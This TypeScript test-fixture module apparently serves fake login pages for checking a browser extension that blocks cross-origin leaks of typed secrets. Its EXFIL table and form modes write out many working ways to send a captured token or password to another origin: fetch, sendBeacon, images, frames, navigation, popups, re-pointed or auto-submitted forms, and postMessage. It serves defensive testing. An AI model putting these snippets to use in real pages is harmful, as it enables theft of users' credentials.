// Pages that try to carry a secret filled on A to another origin: login forms that post or GET to
// A2 (another allowed origin) or B, through a submitter's formaction, a form the page re-points once
// the value lands, a form the page submits itself (at once or later), and page scripts that send the
// field's value with fetch, sendBeacon, an image, a frame, a navigation or a popup. Every attempt a
// script makes reports its outcome (`sent`/`blocked`, `navfail` for a navigation that was stopped)
// to A's own beacon, so a test waits for that event, or for the request at the other server.
import { type Route, at, attacker, attr, doc, js, param } from "./html.ts";
import type { Role } from "./secrets.ts";

/** The destination role of a page (to=a|b|c; default b, the other allowed origin). */
function dest(c: Parameters<Route>[0]): Role {
  const t = param(c, "to", "b");
  return t === "a" || t === "c" ? t : "b";
}

/**
 * What the page does with the field's value once it lands (on its input event): each branch sends
 * it to `url` one way and reports the outcome to A. `v` is the value, `u` the URL to send it to.
 */
const EXFIL: Record<string, string> = {
  fetch: `fetch(u,{method:"POST",mode:"no-cors",body:v}).then(function(){__bk.send("sent","fetch");},function(){__bk.send("blocked","fetch");});`,
  "fetch-get": `fetch(u+"&v="+encodeURIComponent(v),{mode:"no-cors"}).then(function(){__bk.send("sent","fetch-get");},function(){__bk.send("blocked","fetch-get");});`,
  beacon: `var ok=navigator.sendBeacon(u+"&v="+encodeURIComponent(v));probe(u);`,
  img: `var i=new Image();i.onload=i.onerror=function(){probe(u);};i.src=u+"&v="+encodeURIComponent(v);`,
  frame: `var f=document.createElement("iframe");f.src=u+"&v="+encodeURIComponent(v);document.body.appendChild(f);setTimeout(function(){probe(u);},50);`,
  nav: `location.href=u+"&v="+encodeURIComponent(v);`,
  open: `var w=window.open(u+"&v="+encodeURIComponent(v));__bk.send(w?"opened":"noopen","open");`,
  "open-blank": `var w=window.open("about:blank");if(!w){__bk.send("noopen","open-blank");return;}w.fetch(u,{method:"POST",mode:"no-cors",body:v}).then(function(){__bk.send("sent","open-blank");},function(){__bk.send("blocked","open-blank");});`,
  // A form of its own, aimed at the other origin and submitted by script (no submit event).
  "post-form": `var g=document.createElement("form");g.method="post";g.action=u;var x=document.createElement("input");x.name="v";x.value=v;g.appendChild(x);document.body.appendChild(g);g.submit();`,
  // Handed to the other origin's frame, which sends it to its own server and answers how it went.
  postmessage: `document.getElementById("sink").contentWindow.postMessage(v,"*");`,
  // Kept until the test asks (window.__send()), e.g. once the extension's worker was stopped.
  ondemand: `window.__send=function(){fetch(u,{method:"POST",mode:"no-cors",body:v}).then(function(){__bk.send("sent","ondemand");},function(){__bk.send("blocked","ondemand");});};__bk.send("ready","ondemand");`,
};

/**
 * A login form on A. kind=text|pw (the field the secret goes into: #tok, a text field, or #pw);
 * to=a|b|c where the form sends; method=post|get; mode:
 * - plain: the form's action is the destination;
 * - honest: the form posts to A's landing page (which then asks A2 for something);
 * - formaction: the form posts to A, its button's formaction to the destination;
 * - repoint: the form posts to A until the value lands, then the page points it at the destination;
 * - late-repoint: re-pointed from a submit listener on window that runs after every other one;
 * - submit-now / submit-later / request-later: the form (aimed at the destination) is submitted by
 *   the page's own script, in the input handler or 400 ms later (form.submit() or requestSubmit());
 * - blank: the form (aimed at the destination) opens in a new tab;
 * - frame-target: the form (aimed at the destination) targets a frame of the page (auto=1: the page
 *   submits it itself);
 * - exfil-<how>: the form posts to A, and the page's script sends the value with <how> (EXFIL).
 */
const soForm: Route = (c) => {
  const to = dest(c);
  const mode = param(c, "mode", "plain");
  const method = param(c, "method", "post") === "get" ? "get" : "post";
  const target = at(c, to, "/so-collect");
  const own = at(c, "a", "/done");
  const action =
    mode === "honest" ? at(c, "a", "/so-landing", { x: "b" }) : ["formaction", "repoint", "late-repoint"].includes(mode) || mode.startsWith("exfil-") ? own : target;
  const field =
    param(c, "kind", "text") === "pw"
      ? `<label>Password <input id="pw" name="pw" type="password" aria-label="Password"></label>`
      : `<label>Token <input id="tok" name="tok" aria-label="Token"></label>`;
  const button = mode === "formaction" ? `<button id="go" formaction="${attr(target)}">Sign in</button>` : `<button id="go">Sign in</button>`;
  const tgt = mode === "blank" ? ` target="_blank"` : mode === "frame-target" ? ` target="sinkframe"` : "";
  let onValue = "";
  if (mode === "repoint") onValue = `f.action=${js(target)};`;
  else if (mode === "submit-now") onValue = `f.submit();`;
  else if (mode === "submit-later") onValue = `setTimeout(function(){f.submit();},400);`;
  // A submission nobody stopped counts in __att (its submit event) before requestSubmit() returns.
  else if (mode === "request-later") onValue = `setTimeout(function(){f.requestSubmit();if(!__att)__bk.send("returned","stopped");},400);`;
  else if (mode === "blank" || mode === "frame-target") onValue = param(c, "auto") ? `f.submit();${mode === "frame-target" ? `setTimeout(function(){probe(${js(target)});},100);` : ""}` : "";
  else if (mode.startsWith("exfil-")) {
    const how = EXFIL[mode.slice("exfil-".length)];
    if (!how) return { status: 400, body: "no such exfil" };
    onValue = `(function(){var u=${js(target)};${how}})();`;
  }
  const frames =
    mode === "frame-target"
      ? `<iframe name="sinkframe" title="Result" src="${attr(at(c, "a", "/done"))}" width="300" height="60"></iframe>`
      : mode === "exfil-postmessage"
        ? `<iframe id="sink" title="Sink" src="${attr(at(c, to, "/so-sink"))}" width="300" height="60"></iframe>`
        : "";
  const late = mode === "late-repoint" ? `addEventListener("load",function(){addEventListener("submit",function(){f.action=${js(target)};});});` : "";
  return doc(c, {
    body: `<h1>Sign in</h1>
<form id="f" method="${method}" action="${attr(action)}"${tgt}>
<label>User <input id="user" name="user" aria-label="User name"></label>
${field}
${button}</form>
${frames}
<script>
var f=document.getElementById("f");var once=false;
window.__att=0;window.__why=[];addEventListener("submit",function(e){if(!e.defaultPrevented){__att++;__why.push("submit");}});navigation.addEventListener("navigate",function(e){__att++;__why.push("navigate "+e.destination.url);});
function probe(u){fetch(u+"&probe=1",{mode:"no-cors"}).then(function(){__bk.send("sent","probe");},function(){__bk.send("blocked","probe");});}
navigation.addEventListener("navigateerror",function(e){__bk.send("navfail",String(e.message||e.error||""));});
addEventListener("message",function(e){if(e.data&&e.data.r)__bk.send(e.data.r,"postmessage");});
f.addEventListener("input",function(e){var el=e.target;if(once||(el.id!=="tok"&&el.id!=="pw"))return;var v=el.value;if(!v)return;once=true;${onValue}});
${late}
</script>`,
  });
};

/** A page of A whose login form is in a frame of A's own (refs reach into it from the top). */
const soFrame: Route = (c) => {
  const q: Record<string, string> = {};
  for (const [k, v] of c.url.searchParams) if (k !== "s") q[k] = v;
  return doc(c, { body: `<h1>Framed sign in</h1><iframe id="login" title="Login" src="${attr(at(c, "a", "/so-form", q))}" width="500" height="200"></iframe>` });
};

/** A frame that sends what it is handed to its own server, and tells its parent how that went. */
const sink: Route = (c) =>
  doc(c, {
    body: `<p>Sink</p><script>addEventListener("message",function(e){if(typeof e.data!=="string")return;
fetch(${js(at(c, c.role, "/so-collect"))}+"&v="+encodeURIComponent(e.data),{mode:"no-cors"}).then(function(){parent.postMessage({r:"sent"},"*");},function(){parent.postMessage({r:"blocked"},"*");});});</script>`,
  });

/** Where the attacks send the value: any origin answers. */
const collect: Route = (c) => doc(c, { title: "Collected", body: `<h1>Collected</h1>` });

/** A's landing page after a form: it asks A2 for a resource once it loads, so a test sees the tab's rules end. */
const landing: Route = (c) =>
  doc(c, {
    title: "Done",
    body: `<h1>Signed in</h1><script>
function tryA2(n){fetch(${js(at(c, attacker(c), "/so-after"))},{mode:"no-cors"}).then(function(){__bk.send("sent","after");},function(){if(n>0)setTimeout(function(){tryA2(n-1);},100);else __bk.send("blocked","after");});}
tryA2(50);
</script>`,
  });

export const SECRET_ROUTES: Record<string, Route> = {
  "/so-form": soForm,
  "/so-collect": collect,
  "/so-landing": landing,
  "/so-after": collect,
  "/so-sink": sink,
  "/so-frame": soFrame,
};
